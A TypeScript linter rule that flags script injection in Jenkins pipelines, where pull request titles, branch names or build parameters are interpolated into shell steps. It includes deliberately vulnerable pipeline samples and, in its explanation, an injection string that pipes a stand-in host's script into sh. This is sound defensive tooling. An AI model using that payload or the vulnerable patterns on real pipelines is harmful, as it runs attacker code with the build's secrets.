import { rule, type Severity } from '../../core/rule';
import { environmentNames, freeParameters } from '../../formats/jenkins/credentials';
import { inSingleQuotes } from '../../formats/jenkins/edit';

export default rule({
  id: 'jenkins/script-injection',
  title: 'Text of others that becomes a part of a script',
  why: [
    'In double quotes Groovy fills the text in before the shell reads the script: a pull request called `"; curl evil.example | sh; "` runs what its author likes, with the secrets of the build. Who may name a branch, or start the build with a parameter, can do the same.',
    'In single quotes the shell takes the same value from its environment, where it is only text; parameters are there under their names too.',
  ],
  severity: 'warning',
  practice: 'delivery',
  since: '0.1.0',
  fixes: 'suggested',
  links: [
    'https://www.jenkins.io/doc/book/pipeline/jenkinsfile/#string-interpolation',
    'https://www.jenkins.io/doc/book/pipeline/multibranch/',
  ],
  bad: [
    {
      title: 'of a pull request: an error',
      files:
        "pipeline {\n    agent any\n    stages {\n        stage('Tell') {\n            steps {\n                sh \"notify --title '«${env.CHANGE_TITLE}»'\"\n            }\n        }\n    }\n}\n",
    },
    {
      title: 'of a branch',
      files:
        'pipeline {\n    agent any\n    stages {\n        stage(\'Pack\') {\n            steps {\n                sh "make package BRANCH=«${env.BRANCH_NAME}»"\n            }\n        }\n    }\n}\n',
      fixed:
        "pipeline {\n    agent any\n    stages {\n        stage('Pack') {\n            steps {\n                sh 'make package BRANCH=${BRANCH_NAME}'\n            }\n        }\n    }\n}\n",
    },
    {
      title: 'of whoever starts the build',
      files:
        "pipeline {\n    agent any\n    parameters {\n        string(name: 'VERSION', defaultValue: '1')\n    }\n    stages {\n        stage('Pack') {\n            steps {\n                sh \"make package VERSION=«${params.VERSION}»\"\n            }\n        }\n    }\n}\n",
      fixed:
        "pipeline {\n    agent any\n    parameters {\n        string(name: 'VERSION', defaultValue: '1')\n    }\n    stages {\n        stage('Pack') {\n            steps {\n                sh 'make package VERSION=${VERSION}'\n            }\n        }\n    }\n}\n",
    },
  ],
  good: [
    "pipeline {\n    agent any\n    stages {\n        stage('Pack') {\n            steps {\n                sh 'make package BRANCH=$BRANCH_NAME'\n            }\n        }\n    }\n}\n",
    {
      title: 'one of a few',
      files:
        "pipeline {\n    agent any\n    parameters {\n        choice(name: 'KIND', choices: ['a', 'b'])\n    }\n    stages {\n        stage('Pack') {\n            steps {\n                sh \"make package KIND=${params.KIND}\"\n            }\n        }\n    }\n}\n",
    },
    {
      title: 'nobody chooses a number',
      files:
        'pipeline {\n    agent any\n    stages {\n        stage(\'Pack\') {\n            steps {\n                sh "make package NUMBER=${env.BUILD_NUMBER} CHANGE=${env.CHANGE_ID}"\n            }\n        }\n    }\n}\n',
    },
    {
      title: 'no script',
      files:
        'pipeline {\n    agent any\n    stages {\n        stage(\'Say\') {\n            steps {\n                echo "${env.CHANGE_TITLE}"\n            }\n        }\n    }\n}\n',
    },
  ],
  *check({ pipeline, scripts }) {
    if (!pipeline) return;
    const parameters = freeParameters(pipeline);
    const variables = environmentNames(pipeline);
    for (const script of scripts) {
      for (const { start, end, code } of script.string.interpolations) {
        const who = whoWrites(code, parameters);
        if (!who) continue;
        const edits = script.step === 'sh' ? inSingleQuotes(script, (name) => variables.has(name)) : undefined;
        yield {
          at: script.at.file.span(start, end),
          severity: who.severity,
          message: `Whoever ${who.does} can run commands here: ${code} becomes a part of the script before a shell reads it`,
          fix: edits && { title: 'Put the script into single quotes', edits },
          address: code,
        };
      }
    }
  },
});

interface Writer {
  readonly does: string;
  readonly severity: Severity;
}

/** Who chooses the text of a value; undefined where nobody surely can. */
function whoWrites(code: string, parameters: ReadonlySet<string>): Writer | undefined {
  const [, owner, name = ''] = /^(?:(env|params)\.)?([A-Za-z_]\w*)$/.exec(code) ?? [];
  if (owner === 'params') return parameters.has(name) ? { does: 'starts the build', severity: 'info' } : undefined;
  if (/^CHANGE_(?:TITLE|AUTHOR_DISPLAY_NAME)$/.test(name)) return { does: 'opens a pull request', severity: 'error' };
  if (/^(?:CHANGE_BRANCH|BRANCH_NAME|GIT_BRANCH|GIT_LOCAL_BRANCH|TAG_NAME)$/.test(name))
    return { does: 'names the branch or the tag', severity: 'warning' };
  return undefined;
}
